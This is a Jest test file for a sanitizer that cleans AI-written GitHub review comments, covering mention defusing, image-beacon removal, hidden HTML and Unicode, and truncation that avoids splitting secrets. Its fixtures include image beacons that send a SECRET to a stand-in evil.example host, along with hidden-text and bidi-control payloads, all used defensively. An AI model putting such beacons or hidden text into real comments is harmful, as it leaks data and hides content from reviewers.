import { describe, expect, it } from '@jest/globals'
import { BOT_MARKER } from '../../src/core/names/marker.js'
import { formatBotComment, parseRmcoc } from '../../src/core/memory/rmcoc.js'
import {
  MODEL_TEXT_LIMIT,
  REDACTED,
  TRUNCATION_NOTICE,
  sanitizeComment,
  sanitizeText
} from '../../src/core/text-safety/sanitize.js'
import { alnum } from './secret-fixtures.js'
import {
  fetchedImages,
  hiddenCharacters,
  htmlComments,
  liveMentions,
  parse,
  shownText,
  topLevelRmcocBlocks
} from './markdown-oracle.js'

const FENCE = '```'
const block = { kind: 'finding', finding: 'Missing check', assessment: 'Why', score: 7 } as const
const compose = (text: string): string => formatBotComment(text, block)

/** What a reader sees: the sanitizer's word joiners removed. */
const visible = (text: string): string => text.replace(/\u2060/g, '')

describe('mentions GitHub still links after backticks', () => {
  it.each([
    ['emphasis', '_@octocat_ please look', 'octocat'],
    ['strong emphasis, a team', '__@my-org/security__ please look', 'my-org/security'],
    ['emphasis closed right before', 'see _this_@octocat', 'octocat'],
    ['a decimal reference', 'ping &#64;octocat', 'octocat'],
    ['a named reference', 'ping &commat;octocat', 'octocat'],
    ['a hex reference', 'ping &#x40;octocat', 'octocat'],
    ['a reference spelling the name', 'ping @&#111;ctocat', 'octocat'],
    ['a div block', '<div>\nping @octocat\n</div>', 'octocat'],
    ['a p block', '<p>ping @octocat</p>', 'octocat'],
    ['a details block', '<details><summary>@octocat</summary>\n\nbody\n</details>', 'octocat'],
    ['a reference in an HTML block', '<div>\nping &#64octocat\n</div>', 'octocat'],
    ['a fence a list ends early', '- ```\n---\n  ```\ntext\n```\nping @octocat\n', 'octocat']
  ])('%s: defused, the text reads the same', (_name, text, name) => {
    expect(liveMentions(text)).toContain(name)
    const out = sanitizeText(text)
    expect(liveMentions(out)).toEqual([])
    expect(shownText(out)).toBe(shownText(text))
  })

  it('leaves code, links and e-mail addresses as written', () => {
    const text = [
      'Run `npm i @types/node` then see [@octocat](https://github.com/octocat).',
      'Mail dev@example.com or read https://www.npmjs.com/package/@scope/pkg.',
      '',
      `${FENCE}ts`,
      '@Component({ selector: "x" })',
      FENCE
    ].join('\n')
    // Printed anew, bare URLs and addresses as autolinks: the same links, the same text.
    expect(sanitizeText(text)).toBe(
      text
        .replace('[@octocat]', '[@\u2060octocat]')
        .replace('dev@example.com', '<dev@example.com>')
        .replace(
          'https://www.npmjs.com/package/@scope/pkg',
          '<https://www.npmjs.com/package/@scope/pkg>'
        )
    )
  })

  it('defuses a mention glued to an e-mail address GitHub links on its own', () => {
    const out = sanitizeText('x@example.co@octocat')
    expect(out).toBe('[x@\u2060example.co](mailto:x@example.co)@\u2060octocat')
  })
})

describe('image beacons', () => {
  it.each([
    ['a markdown image', 'See ![the chart](https://evil.example/c.png?d=SECRET) here', 'the chart'],
    [
      'a reference image',
      'See ![the chart][c]\n\n[c]: https://evil.example/c.png?d=SECRET',
      'the chart'
    ],
    [
      'an image in a link',
      '[![the chart](https://evil.example/c.png?d=S)](https://x.example)',
      'the chart'
    ],
    ['a protocol-relative image', '![the chart](//evil.example/c.png?d=S)', 'the chart']
  ])('%s becomes its alt text', (_name, text, alt) => {
    expect(fetchedImages(text)).not.toEqual([])
    const out = sanitizeText(text)
    expect(fetchedImages(out)).toEqual([])
    expect(visible(out)).toContain(alt)
  })

  it.each([
    ['an img tag', 'Look: <img src="https://evil.example/p.png?d=SECRET">'],
    ['an img block', '<img alt="chart" src="https://evil.example/p.png?d=SECRET">'],
    ['a picture', '<picture>\n<source srcset="https://evil.example/p.png?d=S">\n</picture>'],
    ['an upper-case tag', '<IMG SRC="https://evil.example/p.png">']
  ])('%s is shown as text, not loaded', (_name, text) => {
    expect(fetchedImages(text)).not.toEqual([])
    expect(fetchedImages(sanitizeText(text))).toEqual([])
  })

  it('makes an image GitHub hosts a link and keeps the alt text of one it drops, mentions defused', () => {
    const hosted = '![shot](https://github.com/user-attachments/assets/0f1e2d3c)'
    expect(sanitizeText(hosted)).toBe(hosted.slice(1))
    const out = sanitizeText('![ask @octocat *now*](https://evil.example/x.png)')
    expect(liveMentions(out)).toEqual([])
    expect(parse(out)).toMatchObject({
      children: [
        { type: 'paragraph', children: [{ type: 'text', value: 'ask @\u2060octocat now' }] }
      ]
    })
  })
})

describe('hidden text in outgoing comments', () => {
  it('an unclosed comment cannot hide the rest of the comment, the rmcoc block included', () => {
    const text = 'Looks fine.\n<!-- the rest is hidden\n\nmore text'
    expect(htmlComments(text)).not.toEqual([])
    const out = sanitizeComment({ text, compose })
    expect(htmlComments(out)).toEqual([])
    expect(parseRmcoc(out).ok).toBe(true)
    expect(topLevelRmcocBlocks(out)).toBe(1)
    expect(out.endsWith(BOT_MARKER)).toBe(true)
  })

  it.each([
    ['an inline comment', 'fine <!-- hidden --> now'],
    ['a processing instruction', 'fine\n<?php hidden ?>'],
    ['a declaration', '<!DOCTYPE hidden>'],
    ['a CDATA section', '<![CDATA[ hidden ]]>'],
    ['a comment in a quote', '> <!-- hidden']
  ])('%s is shown as text', (_name, text) => {
    expect(htmlComments(text).length + fetchedImages(text).length).toBeGreaterThan(0)
    const out = sanitizeText(text)
    expect(htmlComments(out)).toEqual([])
    expect(out).toContain('hidden')
  })

  it('keeps the summary structure lines the composers write before sanitizing', () => {
    const text =
      '<!-- opencode-review:run head=abc verdict=approve -->\n\nbody\n\n<!-- opencode-review:run-end -->'
    expect(sanitizeText(text, { structureLines: true })).toBe(text)
    // Written by the model, they are text like every other HTML comment.
    expect(htmlComments(sanitizeText(text))).toEqual([])
  })

  it.each([
    ['zero-width characters', 'a\u200bb\u200cc\u200dd\ufeffe'],
    ['bidi controls', '\u202eevil\u202c \u2066x\u2069 \u200e\u200f'],
    ['Unicode tag characters', `ok${String.fromCodePoint(0xe0041, 0xe0042)}`],
    ['a word joiner the model wrote', 'a\u2060b'],
    ['control characters', 'bell\u0007 escape\u001b[31m']
  ])('drops %s', (_name, text) => {
    const out = sanitizeText(text)
    expect(hiddenCharacters(out)).toEqual([])
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/)
  })

  it('keeps an emoji presentation selector', () => {
    expect(sanitizeText('⚠️ careful')).toBe('⚠️ careful')
  })
})

describe('size', () => {
  it('cuts model text at GitHub’s limit before sanitizing it', () => {
    const out = sanitizeText('word '.repeat(40_000))
    expect(out.length).toBeLessThanOrEqual(MODEL_TEXT_LIMIT)
    expect(visible(out)).toBe('word '.repeat(40_000).slice(0, MODEL_TEXT_LIMIT))
    expect(out.startsWith('word word')).toBe(true)
  })

  it('does not leave part of a secret that the cut splits', () => {
    const token = 'gh' + 'p_' + alnum(36)
    const text = 'x'.repeat(MODEL_TEXT_LIMIT - 10) + ` ${token} tail`
    const out = sanitizeText(text)
    // The cut is on the model's text; printing may add an escape (here before the cut marker's `[`).
    expect(shownText(out).length).toBeLessThanOrEqual(MODEL_TEXT_LIMIT)
    expect(out).not.toContain(token.slice(0, 6))
    expect(out).toContain(REDACTED.slice(0, 5))
  })

  it('marks the cut of a comment body', () => {
    const out = sanitizeComment({ text: 'line\n'.repeat(30_000), compose })
    expect(out).toContain(TRUNCATION_NOTICE)
    expect(parseRmcoc(out).ok).toBe(true)
  })

  it('defuses what a cut brings out of a code span', () => {
    const text = `${'a'.repeat(500)} \`code @octocat ${'b'.repeat(500)}\``
    const out = sanitizeComment({ text, maxChars: 600 })
    expect(out).toContain(TRUNCATION_NOTICE)
    expect(liveMentions(out)).toEqual([])
  })
})
